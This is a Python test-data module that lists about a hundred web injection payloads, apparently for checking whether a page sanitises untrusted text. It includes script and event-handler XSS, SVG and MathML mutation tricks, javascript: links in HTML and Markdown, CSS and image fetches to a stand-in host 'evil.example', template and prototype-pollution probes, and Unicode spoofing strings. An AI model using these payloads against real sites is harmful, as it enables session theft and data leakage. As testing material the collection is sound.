"""A hundred texts that would do something if a page let them: run a script, fetch, break out of an element, mislead the eye."""

from __future__ import annotations

RAN = "window.pwned=1"  # what each script does, so that a page can be asked whether one ran
EVIL = "http://evil.example/"

_SCRIPTS = (
    f"<script>{RAN}</script>",
    f"<ScRiPt >{RAN}</sCrIpT >",
    f"<script src={EVIL}a.js></script>",
    f'<script type="module">import("{EVIL}a.mjs")</script>',
    f"<scr<script>ipt>{RAN}</scr</script>ipt>",
    f"<script\x0c>{RAN}</script\x0c>",
    f"</script><script>{RAN}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={RAN}>'>",
    f"<!--><script>{RAN}</script>-->",
    f"<![CDATA[<script>{RAN}</script>]]>",
    f"<?xml version='1.0'?><script>{RAN}</script>",
    f"'-({RAN})-'",
    f'";{RAN};//',
    f'\\";{RAN};//</script>',
    f"`+({RAN})+`",
    f"*/{RAN}/*",
)
_HANDLERS = (
    f'<img src=x onerror="{RAN}">',
    f"<img/src=x/onerror={RAN}>",
    f"<img src='x' OnErRoR='{RAN}'",
    f"<body onload={RAN}>",
    f"<input autofocus onfocus={RAN}>",
    f"<select autofocus onfocus={RAN}></select>",
    f"<details open ontoggle={RAN}><summary>x</summary></details>",
    f"<video src=x onerror={RAN}></video>",
    f"<video><source onerror={RAN} src={EVIL}a.mp4></video>",
    f"<audio src={EVIL}a.ogg onloadstart={RAN} autoplay></audio>",
    f"<marquee onstart={RAN}>x</marquee>",
    f"<b onmouseover={RAN} onpointerenter={RAN}>over</b>",
    f"<div style=animation-name:x onanimationstart={RAN}>",
    f'" onmouseover="{RAN}" x="',
    f"' autofocus onfocus='{RAN}",
    f"x onerror={RAN} src=x",
    f"<a\x0bonclick={RAN}>x</a>",
    f"<button popovertarget=p>x</button><div popover id=p onbeforetoggle={RAN}>",
)
_DRAWINGS = (
    f'"><svg onload="{RAN}">',
    f"<svg><script>{RAN}</script></svg>",
    f"<svg><animate onbegin={RAN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{RAN}"><text y=20>x</text></a></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={RAN}>#x"/></svg>',
    f'<svg><image href="{EVIL}a.svg"/></svg>',
    f"<svg><foreignObject><iframe src={EVIL}></iframe></foreignObject></svg>",
    f'<math><maction actiontype="statusline" xlink:href="javascript:{RAN}">x</maction></math>',
    f'<math href="javascript:{RAN}">CLICK</math>',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RAN}&gt;'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RAN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RAN}>",
)
_STYLES = (
    "<style>body{display:none}</style>",
    f"<style>@import '{EVIL}a.css';</style>",
    f'<div style="background:url({EVIL}c.png)">',
    f'<link rel=stylesheet href="{EVIL}a.css">',
    f'<link rel=prefetch href="{EVIL}next">',
    f"<p style=\"position:fixed;inset:0;background:image-set('{EVIL}d.png' 1x)\">",
    f"}} * {{ background: url({EVIL}e.png) }}",
    f"<style>@font-face{{font-family:x;src:url({EVIL}f.woff)}}*{{font-family:x}}</style>",
)
_LINKS = (
    f'<a href="javascript:{RAN}">link</a>',
    f"[link](javascript:{RAN})",
    f"[link](JaVaScRiPt&colon;{RAN})",
    "[link](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    f'<a href="java\tscript:{RAN}">tab</a>',
    f'<a href="&#106;avascript:{RAN}">entity</a>',
    f'<a href="vbscript:{RAN}">old</a>',
    f'[reference][r]\n\n[r]: javascript:{RAN} "title"',
    f"<javascript:{RAN}>",
    f"![picture]({EVIL}a.png)",
    f"![reference picture][p]\n\n[p]: {EVIL}b.png",
    f'[![nested]({EVIL}c.png "x" onerror="{RAN}")]({EVIL})',
    f"{EVIL}?leak=1 www.evil.example mailto:x@evil.example",
    f"$$\\href{{javascript:{RAN}}}{{x}}$$",
    f"\\(\\href{{javascript:{RAN}}}{{x}}\\) \\includegraphics{{{EVIL}a.png}}",
    f'```mermaid\ngraph TD; A-->B; click A href "javascript:{RAN}"; style A fill:url({EVIL}b.png)\n```',
)
_FRAMES = (
    f'<iframe src="{EVIL}"></iframe>',
    f'<iframe srcdoc="<script>parent.{RAN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RAN}"></iframe>',
    f'<object data="{EVIL}a.swf"></object>',
    f'<embed src="data:image/svg+xml,<svg onload={RAN}>">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    f'<base href="{EVIL}">',
    f'<img srcset="{EVIL}a.png 1x, {EVIL}b.png 2x">',
    f'<picture><source srcset="{EVIL}c.webp"><img></picture>',
    f'<form action="{EVIL}"><button>send</button></form>',
    f'<button formaction="javascript:{RAN}">x</button>',
    f'<table background="{EVIL}t.png"><td>',
    f"<template shadowrootmode=open><script>{RAN}</script></template>",
)
_TEMPLATES = (
    f"${{{RAN}}} {{{{constructor.constructor('{RAN}')()}}}} `${{1}}`",
    "{{7*7}} {% raw %} #{7*7} <%= 7*7 %> {{=<% %>=}} [[${7*7}]]",
    "{n} {name} {0} {0.__class__} %s %(name)s %n",
    '{"__proto__": {"pwned": 1}, "constructor": {"prototype": {"pwned": 1}}}',
    '"}</script><!-- {"data-open": "x"} \\u003cscript\\u003e',
    "__proto__ constructor toString hasOwnProperty",
)
_DECEPTIONS = (
    "</mark></blockquote></li></section><h1>out</h1>",
    "&lt;img src=x onerror=alert(1)&gt; &amp; &#60;b&#62; &#x3c; &Tab;",
    "\u202eevil\u2066 text\u200f \u2067\u2068\u202d",
    "zero\u200bwidth\u200c\u200d\ufeff\u2060 joi\u00adned",
    "\u0430\u0441c\u0435ss \uff1cscript\uff1e \u2039img\u203a \ufe64b\ufe65",
    "lone \ud800 surrogate, NUL \x00, tab\t, return\r\n  indented",
    "\x08\x1b[31m\x7f\x85\x9b bell\x07 \x1d",
    '<a title="unclosed',
    "<thinking>x</thinking> [1][2] [99]",
    "<" * 300 + "b" * 3_600,
    "e" + "\u0301" * 400 + " combining",
)
PAYLOADS = (*_SCRIPTS, *_HANDLERS, *_DRAWINGS, *_STYLES, *_LINKS, *_FRAMES, *_TEMPLATES, *_DECEPTIONS)


def file_name(payload: str, ending: str = ".txt") -> str:
    """The payload as far as a file can be called so: without a slash, in UTF-8, of 240 bytes at most."""
    kept = payload.replace("/", "\u2215").replace("\x00", "").replace("\ud800", "")
    return kept.encode()[:240].decode("utf-8", "ignore").lstrip(".") + ending
